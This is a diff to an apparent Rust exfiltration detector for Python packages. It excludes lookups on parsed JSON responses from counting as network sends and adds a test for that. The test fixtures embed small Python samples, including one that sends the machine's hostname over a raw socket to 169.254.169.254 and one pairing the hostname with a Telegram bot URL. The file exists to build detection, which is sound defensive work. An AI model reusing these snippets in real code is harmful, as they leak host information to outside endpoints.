@@ -43,6 +43,11 @@ fn a_post_api(call: &Call) -> bool {
 }
 
 fn is_sink(call: &Call) -> bool {
+    // A method of a parsed response body (`requests.get(u).json().get("ok")`) reads
+    // what came back; it sends nothing.
+    if call.name.contains(".json().") {
+        return false;
+    }
     if vocab::is_network(&call.name) && !call.name.ends_with("Session") {
         return true;
     }
@@ -287,6 +292,10 @@ mod tests {
         let src = "import socket, requests\nHOST = socket.gethostname()\nBOT = 'https://api.telegram.org/bot{}/sendMessage'\ndef status():\n    return requests.get('https://api.example.com/status').json().get('ok')\n";
         let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
         assert!(f.iter().all(|f| f.severity < Severity::High), "{f:?}");
+        // No error: a lookup in a parsed response body is no send of its own.
+        let src = "import socket, json\ndef load(data):\n    h = socket.gethostname()\n    u = 'https://api.telegram.org/bot'\n    return data.get(h), u\ndef fetch():\n    import requests\n    data = requests.get('https://api.example.com/s').json()\n    return data\n";
+        let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
+        assert!(f.iter().all(|f| !f.message.contains("json()")), "{f:?}");
         // Error: the same facts in one function.
         let src = "import socket\ndef probe():\n    h = socket.gethostname()\n    s = socket.socket()\n    s.connect(('169.254.169.254', 80))\n    s.send(h.encode())\n";
         let f = check(&Exfiltration, Kind::Wheel, &[("pkg/dash.py", src)]);
